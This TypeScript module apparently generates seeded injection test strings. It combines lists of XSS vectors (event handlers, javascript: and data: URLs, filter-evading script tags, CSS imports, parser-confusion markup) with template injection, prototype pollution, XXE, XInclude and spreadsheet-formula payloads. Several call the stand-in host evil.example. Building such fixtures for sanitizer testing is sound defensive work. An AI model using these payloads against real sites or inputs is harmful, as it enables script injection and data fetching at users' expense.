/**
 * Texts that would run or fetch something wherever they were taken for more than text: put together by lot from the ways
 * in which markup can, so that no list has to be kept of them.
 */
import { seededNumbers } from './fakeEncoder';

/** A global that is set where one of them runs; `EVIL` is where one of them fetches. */
export const INJECTED = 'injected';
export const EVIL = 'evil.example';

type Pick = <T>(from: readonly T[]) => T;
type Part = (pick: Pick) => string;

const CODES = [
  `${INJECTED}=1`,
  `top.${INJECTED}=1`,
  `self['${INJECTED}']=1`,
  'alert(1)',
  'confirm`1`',
  `document.title='${INJECTED}'`,
  `fetch('https://${EVIL}/f')`,
  `new Image().src='//${EVIL}/i'`,
  `import('https://${EVIL}/m.js')`,
  `eval('${INJECTED}=1')`,
  `setTimeout('${INJECTED}=1')`,
  `location='https://${EVIL}/l'`,
  `localStorage.${INJECTED}=1`,
] as const;
const EVENTS = [
  'onload',
  'onerror',
  'onfocus',
  'onclick',
  'ontoggle',
  'onbegin',
  'onmouseover',
  'onpageshow',
  'OnErRoR',
];
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'math',
  'iframe src=x',
  'object data=x',
  'embed src=x',
  'select autofocus',
  'x-y tabindex=0 autofocus',
  'style',
  'link rel=stylesheet href=x',
  'marquee',
  'svg><animate attributeName=x',
  'svg><set attributeName=href',
  'svg><image href=x',
  'p contenteditable autofocus',
] as const;
const CARRYING = [
  'a href',
  'area href',
  'base href',
  'iframe src',
  'frame src',
  'embed src',
  'object data',
  'form action',
  'button formaction',
  'img src',
  'img srcset',
  'input type=image src',
  'source srcset',
  'video poster',
  'track src',
  'body background',
  'table background',
  'link rel=stylesheet href',
  'link rel=preload as=script href',
  'link rel=prefetch href',
  'link rel=dns-prefetch href',
  'link rel=icon href',
  'link rel=manifest href',
  'link rel=modulepreload href',
  'script src',
  'script type=module src',
  'a ping',
  'blockquote cite',
  'svg><use href',
  'svg><a xlink:href',
  'svg><image xlink:href',
  'svg><feImage href',
  'svg><script href',
  'math><a href',
  'meta http-equiv=refresh content',
  'html manifest',
  'portal src',
] as const;
const BEFORE = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '\u0000',
  '\uFEFF',
];
const AFTER = ['', '', '', '<!--', '<plaintext>', '<textarea>', '<p title="', '\u202E', '\u2028'];
/** Letters that some readers skip, or take for others. */
const BLANKS = [' ', '\t', '\n', '\f', '/', '\u00A0', '\u200B'];

const address: Part = (pick) => {
  const code = pick(CODES);
  return pick([
    () => `javascript:${code}`,
    () => `JaVaScRiPt:${code}`,
    () => `java\tscript:${code}`,
    () => `java&NewLine;script&colon;${code}`,
    () => `&#106;avascript:${code}`,
    () => `&#x6A avascript:${code}`,
    () => `\u0001javascript:${code}`,
    () => `vbscript:${code}`,
    () => `data:text/html,<script>${code}</script>`,
    () => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
    () => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
    () => `data:text/javascript,${code}`,
    () => `https://${EVIL}/a`,
    () => `//${EVIL}/b`,
    () => `\\\\${EVIL}\\c`,
    () => `https:/${EVIL}/d 2x, //${EVIL}/e`,
    () => `0;url=https://${EVIL}/r`,
    () => `0;url=javascript:${code}`,
  ])();
};
const handler: Part = (pick) => {
  const blank = pick(BLANKS);
  const quote = pick(['"', "'", '', '`']);
  return `<${pick(ELEMENTS)}${blank}${pick(EVENTS)}=${quote}${pick(CODES)}${quote}>`;
};
const carrying: Part = (pick) => {
  const quote = pick(['"', "'", '']);
  return `<${pick(CARRYING)}=${quote}${address(pick)}${quote}>x`;
};
const script: Part = (pick) => {
  const code = pick(CODES);
  return pick([
    `<script>${code}</script>`,
    `<ScRiPt/x>${code}</sCrIpT >`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<script>${code}`,
    `<svg><script>${code.replaceAll('=', '&#61;')}</script></svg>`,
    `<script type=module>${code}</script>`,
    `<script type="speculationrules">{"prerender":[{"urls":["https://${EVIL}/s"]}]}</script>`,
    `<script type="importmap">{"imports":{"x":"https://${EVIL}/x.js"}}</script><script type=module>import 'x'</script>`,
    `<script type="application/ld+json">{"@type":"${code}"}</script>`,
    `\uFF1Cscript\uFF1E${code}\uFF1C/script\uFF1E`,
    `<\u0000script>${code}</script>`,
    `<iframe srcdoc="<script>${code.replaceAll('"', '&quot;')}</script>"></iframe>`,
  ]);
};
const style: Part = (pick) => {
  const url = pick([`//${EVIL}/s.css`, `https://${EVIL}/s`, `javascript:${pick(CODES)}`]);
  return pick([
    `<style>@import url(${url});</style>`,
    `<style>*{background:url(${url})}</style>`,
    `<p style="background-image:url(${url})">x</p>`,
    `<p style="width:expression(${pick(CODES)})">x</p>`,
    `<svg><style>@import '${url}';</style></svg>`,
    `<p style="list-style:\\75rl(${url})">x</p>`,
    `<style>@font-face{font-family:x;src:url(${url})}p{font-family:x}</style><p>x</p>`,
    `<?xml-stylesheet href="${url}"?>`,
  ]);
};
/** Markup that one parser reads otherwise than another, or than itself when it reads what it wrote. */
const twisted: Part = (pick) => {
  const inner = pick([handler, script, carrying])(pick);
  return pick([
    `<!--><!-- ${inner} -->`,
    `<!-- --!>${inner}`,
    `<![CDATA[${inner}]]>`,
    `<svg><![CDATA[><${inner}]]>`,
    `<noscript><p title="</noscript>${inner}">`,
    `<template>${inner}</template>`,
    `<div><template shadowrootmode=open>${inner}</template></div>`,
    `<math><mtext><table><mglyph><style><!--</style>${inner}-->`,
    `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    `<svg><foreignObject>${inner}</foreignObject></svg>`,
    `<svg></p><style><a id="</style>${inner}">`,
    `<table><tr>${inner}</tr></table>`,
    `<select><option>${inner}</select>`,
    `<xmp>${inner}</xmp>`,
    `<listing>&lt;img onerror=${pick(CODES)} src=x&gt;</listing>`,
    `<title>${inner}</title>`,
    `<object data=x><param name=src value="${address(pick)}">${inner}</object>`,
    `<frameset><frame src="${address(pick)}"></frameset>${inner}`,
  ]);
};
/** What other readers than those of markup would take for more than text. */
const worded: Part = (pick) => {
  const code = pick(CODES);
  return pick([
    `[x](${address(pick)})`,
    `![x](https://${EVIL}/p "x")`,
    `[x]: ${address(pick)}`,
    `<${address(pick)}>`,
    `:::x{onclick="${code}"}\nx\n:::`,
    `{{constructor.constructor("${code}")()}}`,
    `\${${code}}`,
    `<%= ${code} %>`,
    `!!js/function "function(){${code}}"`,
    `{"__proto__":{"${INJECTED}":1},"constructor":{"prototype":{"${INJECTED}":1}}}`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "https://${EVIL}/e">]><x>&e;</x>`,
    `<xsl:value-of select="document('https://${EVIL}/x')"/>`,
    `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="https://${EVIL}/i"/>`,
    `=HYPERLINK("https://${EVIL}/h")`,
    `\u202E${code}\u202C\u2066`,
    `Content-Location: https://${EVIL}/c`,
  ]);
};
const entities: Part = (pick) =>
  pick([handler, script, carrying])(pick).replace(/[<>"]/gu, (sign) =>
    pick([
      `&#${sign.codePointAt(0)};`,
      `&#x${sign.codePointAt(0)?.toString(16)};`,
      `&amp;#${sign.codePointAt(0)};`,
      `\\u003c`,
    ]),
  );

const PARTS = [handler, carrying, script, style, twisted, worded, entities] as const;

/** So many different ones, always the same; every way comes equally often. */
export function injections(count: number, seed = 'injections'): string[] {
  const next = seededNumbers(seed);
  const pick: Pick = (from) => from[Math.floor(next() * from.length)] as (typeof from)[number];
  const found = new Set<string>();
  for (let k = 0; found.size < count; k += 1) {
    found.add(pick(BEFORE) + (PARTS[k % PARTS.length] as Part)(pick) + pick(AFTER));
  }
  return [...found];
}
